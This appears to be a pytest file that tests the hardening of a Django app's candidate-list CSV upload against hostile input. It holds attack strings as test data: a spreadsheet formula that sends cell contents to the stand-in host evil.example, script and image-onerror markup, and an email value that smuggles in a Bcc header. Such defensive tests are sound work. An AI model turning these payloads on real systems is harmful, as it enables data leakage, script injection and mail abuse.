"""A list of candidates from somebody who means harm: formulas, markup, cells of a megabyte, signs that no database takes."""

import csv
import io
import tempfile
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from steward.campaigns import standing
from steward.campaigns.models import Candidate
from tests.campaigns.making import an_election
from tests.office.conftest import sign_in
from tests.people import an_actor, building

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")'


@pytest.fixture
def officer(plain: Client) -> Client:
    return sign_in(an_actor("communications_officer"))


def look(
    officer: Client, at: str, lines: list[list[str]], *, header: tuple[str, ...] = ("name", "constituency", "party", "email")
) -> Any:
    out = io.StringIO()
    csv.writer(out).writerows([header, *lines])
    return officer.post(f"{at}list/", {"file": SimpleUploadedFile("list.csv", out.getvalue().encode()), "source": "invented"})


def address(election: Any) -> str:
    return f"/office/candidates/{election.pk}/"


def packed(answer: Any) -> str:
    return str(answer.context["list"])


def test_no_cell_of_the_lines_that_come_back_is_a_formula_nor_is_a_heading(officer: Client) -> None:
    at = address(an_election())
    seen = look(
        officer,
        at,
        [["Ann", FORMULA, FORMULA, "x", FORMULA], ["\n=1+1", "nowhere", "", "", " =1+1"]],
        header=("name", "constituency", "party", "email", FORMULA),
    )
    assert seen.status_code == 200, seen.content
    back = officer.post(f"{at}list/refused/", {"list": packed(seen)})
    rows = list(csv.reader(io.StringIO(back.content.decode("utf-8-sig"))))
    assert len(rows) == 3
    assert [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")] == []


def test_markup_in_a_list_is_shown_as_words(officer: Client) -> None:
    at = address(an_election())
    page = look(
        officer,
        at,
        [["<script>alert(1)</script>", "Leeds North East", "<img src=x onerror=1>", ""], ["Bo", "<b>nowhere</b>", "", ""]],
    ).content.decode()
    assert "<script>alert" not in page
    assert "<img src=x" not in page
    assert "<b>nowhere" not in page


@pytest.mark.parametrize(
    ("party", "email"),
    [
        ("x" * 900_000, ""),
        ("", "a" * 64 + "@" + ".".join(["b" * 60] * 4) + ".example"),
        ("", "a@b.example\r\nBcc: all@evil.example"),
        ("\0", ""),
        ("\ud7ff\u202e", ""),
    ],
)
def test_a_cell_that_is_too_much_is_refused_and_breaks_nothing(officer: Client, party: str, email: str) -> None:
    officer.raise_request_exception = False
    election = an_election()
    at = address(election)
    seen = look(officer, at, [["Ann Other", "Leeds North East", party, email]])
    assert seen.status_code in (200, 422), seen.status_code
    if seen.status_code == 200:
        done = officer.post(f"{at}list/", {"list": packed(seen), "seen": seen.context["plan"].digest})
        assert done.status_code < 500
        with building():
            assert not any("\n" in each.email for each in Candidate.objects.all())


def test_a_list_that_is_read_has_no_name_on_the_disk(officer: Client, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    read: list[bytes] = []
    plan = standing.plan

    def spy(path: Path, **more: Any) -> Any:
        read.append(path.read_bytes())
        assert [each for each in tmp_path.rglob("*") if each.is_file()] == []
        return plan(path, **more)

    monkeypatch.setattr(standing, "plan", spy)
    at = address(an_election())
    seen = look(officer, at, [["Quilliam Farthing", "Leeds North East", "", ""], ["Bo", "nowhere", "", ""]])
    assert officer.post(f"{at}list/refused/", {"list": packed(seen)}).status_code == 200
    assert officer.post(f"{at}list/", {"list": packed(seen), "seen": seen.context["plan"].digest}).status_code == 302
    assert [b"Quilliam Farthing" in each for each in read] == [True, True, True]
    assert list(tmp_path.rglob("*")) == []


def test_a_list_that_was_looked_at_for_one_election_is_not_entered_in_another_nor_after_it_was_altered(officer: Client) -> None:
    one, two = an_election(), an_election(name="Another")
    seen = look(officer, address(one), [["Ann", "Leeds North East", "", ""]])
    data, digest = packed(seen), seen.context["plan"].digest
    altered = data[:-3] + ("AAA" if not data.endswith("AAA") else "BBB")
    for at, what, said in ((one, altered, digest), (one, data, "0" * 32), (two, data, digest)):
        assert officer.post(f"{address(at)}list/", {"list": what, "seen": said}).status_code == 422
    assert officer.post(f"{address(two)}list/refused/", {"list": data}).status_code == 404
    for role in ("editor", "membership_officer", "data_protection_officer"):
        assert sign_in(an_actor(role)).post(f"{address(one)}list/", {"list": data, "seen": digest}).status_code == 404
    with building():
        assert Candidate.objects.count() == 0
    assert officer.post(f"{address(one)}list/", {"list": data, "seen": digest}).status_code == 302
    with building():
        assert Candidate.objects.get().name == "Ann"
